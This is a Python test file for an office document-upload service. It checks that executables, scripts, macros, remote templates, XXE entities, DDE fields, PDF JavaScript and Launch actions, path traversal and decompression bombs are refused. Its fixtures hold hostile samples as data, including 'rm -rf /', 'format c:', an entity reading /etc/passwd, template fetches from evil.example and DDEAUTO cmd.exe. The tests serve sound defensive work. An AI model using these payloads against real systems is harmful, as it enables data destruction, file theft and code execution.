"""What may run, fetch, hide, or cannot be reviewed is refused with a whole sentence, whatever its name says."""

import io
import struct
import zipfile
import zlib

import docx
import openpyxl
import pypdf
import pypdf.annotations
import pytest
from compound_writing import compound
from hypothesis import HealthCheck, given
from hypothesis import settings as effort
from hypothesis import strategies as st

from gongkai.office.actors import DutyKind
from gongkai.office.audit.models import AuditEntry
from gongkai.office.errors import Refused
from gongkai.office.files import services
from gongkai.office.files.models import StoredFile


def chunk(kind, body=b""):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


PNG = b"".join(
    (
        b"\x89PNG\r\n\x1a\n",
        chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
        chunk(b"IDAT", zlib.compress(b"\0\0")),
        chunk(b"IEND"),
    )
)


@pytest.fixture
def store(world, settings, tmp_path):
    settings.ORIGINALS = tmp_path / "files"
    clerk = world.actor("science", DutyKind.DRAFTER)

    def keep(source, name="文件", **more):
        return services.store(source, name=name, by=clerk, at=world.now, **more)

    keep.folder = settings.ORIGINALS
    return keep


def refused(store, data, sentence, name="文件"):
    before = StoredFile.objects.count()
    with pytest.raises(Refused, match=sentence) as refusal:
        store(data, name)
    assert StoredFile.objects.count() == before
    assert not [path for path in store.folder.rglob("*") if path.is_file() and path.name != ".lock"]
    assert str(refusal.value).endswith("。")
    assert "请" in str(refusal.value)
    assert AuditEntry.objects.filter(verb="file.refused").latest("seq").subject


def saved(document):
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def word(**parts):
    """A Word file with parts added or changed: {"word/x.bin": b"…"}."""
    document = docx.Document()
    document.add_paragraph("演示")
    return changed(
        saved(document), {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}
    )


def changed(data, parts):
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content(old.read(name)) if callable(content) else content)
    return target.getvalue()


def related(kind, target, mode="External"):
    line = (
        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return changed(
        word(), {"word/_rels/document.xml.rels": lambda old: old.replace(b"</Relationships>", line.encode())}
    )


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"MZ\x90\0" + bytes(200), "通知.docx"),
        (b"\x7fELF" + bytes(200), "通知.pdf"),
        (b"#!/bin/sh\nrm -rf /\n", "通知.txt"),
        (b"@echo off\r\nformat c:\r\n", "通知.txt"),
        (b"[InternetShortcut]\nURL=file:///c:/x.exe", "通知.txt"),
        (b"L\0\0\0\x01\x14\x02\0" + bytes(90), "通知.pdf"),
    ],
)
def test_a_renamed_program_is_refused(store, data, name):
    refused(store, data, "可执行程序或脚本", name)


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE html><p>x", b"\xef\xbb\xbf  <HTML>", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", b"<?xml version='1.0'?><svg/>",
        "<html><script>x()</script>".encode("utf-16"), b"<!-- a --><script>1</script>", b"<?php system('x');",
    ],
)  # fmt: skip
@pytest.mark.parametrize("name", ["说明.txt", "图.png", "页.html"])
def test_a_page_is_refused_under_any_name(store, data, name):
    refused(store, data, "网页或带脚本", name)


def test_a_script_that_is_plain_text_is_refused_by_its_ending(store):
    refused(store, b"alert(1)\n", "后缀是“.js”", "说明.js")
    assert store("演示\n".encode(), "说明.txt").extension == "txt"
    with pytest.raises(Refused, match=r"后缀是“\.js”"):
        store("演示\n".encode(), "说明.js")


def test_unknown_kinds_and_broken_text_are_refused(store):
    refused(store, b"Rar!\x1a\x07\x01\0" + bytes(99), "rar", "资料.rar")
    refused(store, bytes(range(256)) * 9, "无法接收", "资料.dat")
    refused(store, b"abc" * 9000 + b"\x00\x01\xff\xfe", "不是文字", "资料.txt")
    refused(store, b"", "文件是空的")


def test_plain_archives_are_kept_only_where_switched_on(store, settings):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        package.writestr("演示.txt", "演示")
    refused(store, target.getvalue(), "不接收ZIP 压缩包", "资料.zip")
    settings.UPLOAD_ZIP = True
    assert store(target.getvalue(), "资料.zip").extension == "zip"
    with zipfile.ZipFile(target, "a") as package:
        package.writestr("程序.exe", "MZ")
    with pytest.raises(Refused, match=r"程序\.exe"):
        store(target.getvalue(), "资料.zip")


def test_macros_are_refused_under_any_name(store):
    refused(store, word(word__vbaProject_dot_bin=b"x"), "宏", "通知.docx")
    macro = {"[Content_Types].xml": lambda old: old.replace(b"document.main+xml", b"document.macroEnabled.main+xml")}
    refused(store, changed(word(), macro), "宏", "通知.docx")
    refused(store, changed(word(), {"xl/macrosheets/sheet1.xml": b"<x/>"}), "宏", "表.xlsx")
    refused(store, compound({"WordDocument": bytes(4096), "Macros/VBA/dir": b"x"}), "宏", "通知.doc")
    sheet = b"\x09\x08\x02\0\0\x06" + b"\x85\0\x0a\0" + bytes(5) + b"\x01" + bytes(4) + b"\x0a\0\0\0"
    refused(store, compound({"Workbook": sheet}), "宏", "表.xls")
    slides = b"\x0f\0\xff\x03\x14\0\0\0" + b"\x02\0\0\x04\x0c\0\0\0" + b"\1\0\0\0\1\0\0\0\2\0\0\0"
    refused(store, compound({"PowerPoint Document": slides}), "宏", "片.ppt")


def test_what_cannot_be_read_without_a_password_is_refused(store):
    refused(store, compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "打开密码", "通知.docx")
    refused(store, compound({"WordDocument": bytes(10) + b"\0\x01"}), "打开密码", "通知.doc")
    refused(store, compound({"Workbook": b"\x09\x08\x02\0\0\x06\x2f\0\x02\0\0\0"}), "打开密码", "表.xls")
    refused(
        store,
        compound({"PowerPoint Document": b"", "Current User": bytes(12) + b"\xdf\xc4\xd1\xf3"}),
        "打开密码",
        "片.ppt",
    )
    writer = pypdf.PdfWriter()
    writer.add_blank_page(9, 9)
    writer.encrypt("geheim", algorithm="AES-256")
    target = io.BytesIO()
    writer.write(target)
    refused(store, target.getvalue(), "打开密码", "公告.pdf")


def test_old_documents_without_any_of_that_are_kept(store):
    assert store(compound({"WordDocument": bytes(4096)}), "通知.doc").extension == "doc"
    assert store(compound({"WordDocument": b"\2" * 4096}), "通知.wps").extension == "wps"
    assert store(compound({"Workbook": b"\x09\x08\x02\0\0\x06\x0a\0\0\0"}), "表.et").extension == "et"
    refused_kind = pytest.raises(Refused, match="安装包")
    with refused_kind:
        store(compound({"Other": b"x"}), "通知.doc")


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("attachedTemplate", r"\\evil.example\t.dotm"),
        ("attachedTemplate", "file://evil.example/t.dotm"),
        ("attachedTemplate", r"file:///\\evil.example\t.dotm"),
        ("image", "https://evil.example/pixel.png"),
        ("oleObject", "mhtml:http://evil.example/x!x.html"),
        ("frame", "ftp://evil.example/x"),
    ],
)
def test_what_is_fetched_on_opening_is_refused(store, kind, target):
    refused(store, related(kind, target), "文件之外的", "通知.docx")


def test_links_and_a_template_on_the_own_disk_are_no_harm(store):
    assert store(related("hyperlink", "https://www.gov.cn/"), "a.docx")
    file = store(related("attachedTemplate", "file:///C:\\Users\\zhang\\t.dotx"), "b.docx")
    copy = services.published_copy(file, by=services.SYSTEM, at=file.stored_at)
    with zipfile.ZipFile(services.path_of(copy)) as package:
        assert not any(b"zhang" in package.read(name) for name in package.namelist())
    refused_link = pytest.raises(Refused, match="运行脚本")
    with refused_link:
        store(related("hyperlink", "javascript:alert(1)"), "c.docx")


@pytest.mark.parametrize("part", ["word/document.xml", "word/settings.xml", "docProps/app.xml"])
@pytest.mark.parametrize("code", ["utf-8", "utf-16"])
def test_a_part_that_declares_a_document_type_is_refused_before_it_is_reviewed(store, part, code):
    """It was kept, passed review, and was refused first when its published copy was made."""
    hostile = f'<?xml version="1.0" encoding="{code}"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    refused(store, changed(word(), {part: hostile.encode(code)}), "文档类型声明")


def test_embedded_things_are_looked_into(store):
    book = saved(openpyxl.Workbook())
    assert store(word(word__embeddings__a_dot_xlsx=book), "a.docx")
    for inside in (
        b"MZ program",
        compound({"\x01Ole10Native": b"evil.exe"}),
        changed(book, {"xl/vbaProject.bin": b"x"}),
        b"PK\x03\x04 broken",
    ):
        with pytest.raises(Refused):
            store(word(word__embeddings__o_dot_bin=inside), "b.docx")
    with pytest.raises(Refused, match="ActiveX"):
        store(word(word__activeX__activeX1_dot_xml=b"<x/>"), "c.docx")
    with pytest.raises(Refused, match="夹带"):
        store(word(word__media__x_dot_exe=b"x"), "d.docx")
    with pytest.raises(Refused, match="altChunk"):
        store(related("aFChunk", "x.html", "Internal"), "e.docx")


def test_fields_that_start_programs_are_refused(store):
    for pieces in (["DDEAUTO c:\\\\cmd.exe"], ["DDE", "AUTO c"], ["INCLUDETEXT", ' "http://x/"']):
        runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
        field = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr'
        data = changed(
            word(), {"word/document.xml": lambda old, field=field: old.replace(b"<w:sectPr", field.encode())}
        )
        with pytest.raises(Refused, match="域"):
            store(data, "a.docx")


def test_bombs_and_broken_packages_are_refused(store, monkeypatch):
    refused(store, word(word__media__a_dot_bmp=bytes(40 * 2**20)), "解压后过大", "a.docx")
    monkeypatch.setattr("gongkai.office.files.inspection.opening.MOST_UNPACKED", 1000)
    refused(store, word(), "解压后过大", "a.docx")
    monkeypatch.undo()
    monkeypatch.setattr("gongkai.office.files.inspection.opening.MOST_ENTRIES", 3)
    refused(store, word(), "部件", "a.docx")


def test_truncated_and_tampered_packages_are_refused(store):
    data = word()
    refused(store, data[:-400], "不完整或已损坏", "a.docx")
    refused(store, data[:2000], "不完整或已损坏", "a.docx")
    start = data.index(b"word/document.xml") + 80
    refused(store, data[:start] + bytes(40) + data[start + 40 :], "不完整或已损坏", "a.docx")
    refused(store, changed(data, {"../../etc/x": b"x"}), "部件名称不正常", "a.docx")
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><Types xmlns="x">&x;</Types>'
    refused(store, changed(data, {"[Content_Types].xml": entity}), "文档类型声明", "a.docx")


def pdf(change=None):
    writer = pypdf.PdfWriter()
    writer.add_blank_page(99, 99)
    if change:
        change(writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def scripted(writer):
    script = pypdf.generic.DictionaryObject(
        {
            pypdf.generic.NameObject("/S"): pypdf.generic.NameObject("/JavaScript"),
            pypdf.generic.NameObject("/JS"): pypdf.generic.TextStringObject("app.alert(1)"),
        }
    )
    writer.root_object[pypdf.generic.NameObject("/OpenAction")] = writer._add_object(script)


def launching(writer):
    action = pypdf.generic.DictionaryObject(
        {
            pypdf.generic.NameObject("/S"): pypdf.generic.NameObject("/Launch"),
            pypdf.generic.NameObject("/F"): pypdf.generic.TextStringObject("cmd.exe"),
        }
    )
    link = pypdf.annotations.Link(rect=(0, 0, 9, 9), url="https://x/")
    link[pypdf.generic.NameObject("/A")] = action
    writer.add_annotation(0, link)


def test_active_and_stuffed_pdfs_are_refused(store):
    refused(store, pdf(scripted), "JavaScript", "a.pdf")
    refused(store, pdf(launching), "启动其他程序", "a.pdf")
    refused(store, pdf(lambda writer: writer.add_attachment("x.exe", b"MZ")), "附件", "a.pdf")
    refused(store, b"%PDF-1.7\nnonsense", "PDF 文件不完整", "a.pdf")
    refused(store, pdf()[:200], "PDF 文件不完整", "a.pdf")


def test_a_pdf_that_only_forbids_copying_is_kept_and_its_copy_is_free(store):
    file = store(pdf(lambda writer: writer.encrypt("", "owner")), "a.pdf")
    copy = services.published_copy(file, by=services.SYSTEM, at=file.stored_at)
    assert not pypdf.PdfReader(services.path_of(copy)).is_encrypted


def test_damaged_pictures_are_refused(store):
    assert store(PNG, "图.png").extension == "png"
    refused_picture = pytest.raises(Refused, match="图片不完整")
    for data in (PNG[:-12], PNG[:40], b"\xff\xd8\xff\xe0\0\x10JFIF\0", b"GIF89a\1\0\1\0\x80\0\0"):
        with refused_picture:
            store(data, "图.png")


class Endless:
    """An upload that never ends, and counts what is read of it."""

    def __init__(self):
        self.read_bytes = 0

    def read(self, size):
        self.read_bytes += size
        return b"x" * size


def test_an_upload_stops_at_the_limit_and_leaves_nothing(store, settings):
    source = Endless()
    refused(store, source, "超过了 50 MB 的上限", "大文件.txt")
    assert source.read_bytes < settings.UPLOAD_MOST_BYTES + 2**20
    with pytest.raises(Refused, match="超过了 1 MB"):
        store(Endless(), "大文件.txt", most_bytes=2**20)
    with pytest.raises(Refused, match="超过了 20 MB"):
        store(b"x" * (21 * 2**20), "大文件.txt")


SAMPLES = [word(), pdf(), PNG, compound({"WordDocument": bytes(4096)}), saved(openpyxl.Workbook())]


@effort(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_mangled_files_are_kept_or_refused_but_never_break_anything(store, data):
    sample = data.draw(st.sampled_from(SAMPLES))
    mangled = bytearray(sample)
    for place in data.draw(st.lists(st.integers(0, len(sample) - 1), max_size=12)):
        mangled[place] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(mangled)))
    try:
        file = store(bytes(mangled[:cut]) if data.draw(st.booleans()) else bytes(mangled), "文件.docx")
        services.published_copy(file, by=services.SYSTEM, at=file.stored_at)
    except Refused:
        pass
